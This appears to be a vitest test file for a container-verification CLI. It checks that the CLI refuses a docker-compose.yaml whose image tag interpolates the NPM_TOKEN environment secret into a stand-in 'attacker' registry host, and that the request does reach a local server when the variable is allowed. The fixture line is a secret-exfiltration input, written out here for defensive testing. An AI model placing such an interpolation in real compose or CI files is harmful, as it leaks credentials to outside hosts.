// compose-env through dist/cli.js: a pull request's docker-compose.yaml that interpolates a
// secret of the job's environment into a registry host it names. `verify --files` (the
// pre-commit and CI entry) refuses it (exit 2) before any request: the "attacker" registry, a
// local HTTP server counting requests, sees none, and no output carries the secret. Named in
// --compose-env, the same file is read and the request does reach that registry (the control:
// the server would have seen the token).
import { generateKeyPairSync } from 'node:crypto';
import { mkdtemp, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../helpers/run-dist.js';

const SECRET = 'npm_Zq8sECRETt0ken4711';
let server: Server;
let host: string;
let dir: string;
const seen: string[] = [];

beforeAll(async () => {
  server = createServer((req, res) => {
    seen.push(req.url ?? '');
    res.writeHead(404, { 'content-type': 'application/json' });
    res.end('{"errors":[{"code":"MANIFEST_UNKNOWN","message":"no"}]}');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  dir = await mkdtemp(path.join(tmpdir(), 'ig-compose-env-cli-'));
  const { publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  await writeFile(
    path.join(dir, 'cosign.pub'),
    publicKey.export({ type: 'spki', format: 'pem' }).toString(),
  );
  await writeFile(
    path.join(dir, 'docker-compose.yaml'),
    `services:\n  web:\n    image: registry.example/app@sha256:${'a'.repeat(64)}\n  x:\n    image: ${host}/x:\${NPM_TOKEN}\n`,
  );
});

afterAll(async () => {
  await new Promise<void>((r) => server.close(() => r()));
});

const verify = (...extra: string[]) =>
  runCli(
    [
      'verify',
      '--files',
      '--key',
      'cosign.pub',
      '--insecure-registry',
      host,
      '--offline',
      ...extra,
      'docker-compose.yaml',
    ],
    { NPM_TOKEN: SECRET },
    dir,
  );

describe('verify --files with a secret interpolated into a registry host', () => {
  it('is exit 2 naming file, line and variable; no request reaches the host; the secret is not printed', async () => {
    seen.length = 0;
    const r = await verify();
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(
      `docker-compose.yaml:5: service x: image '${host}/x:\${NPM_TOKEN}' reads NPM_TOKEN from the environment, which compose-env does not allow; name it in compose-env (--compose-env NPM_TOKEN) if the deploy sets it`,
    );
    expect(r.stdout + r.stderr).not.toContain(SECRET);
    expect(seen).toEqual([]);
  });

  it('with --compose-env NPM_TOKEN the variable is read (the request the refusal prevents)', async () => {
    seen.length = 0;
    const r = await verify('--compose-env', 'NPM_TOKEN');
    expect(r.code).not.toBe(0);
    expect(seen.some((u) => u.includes(SECRET))).toBe(true);
  });
});
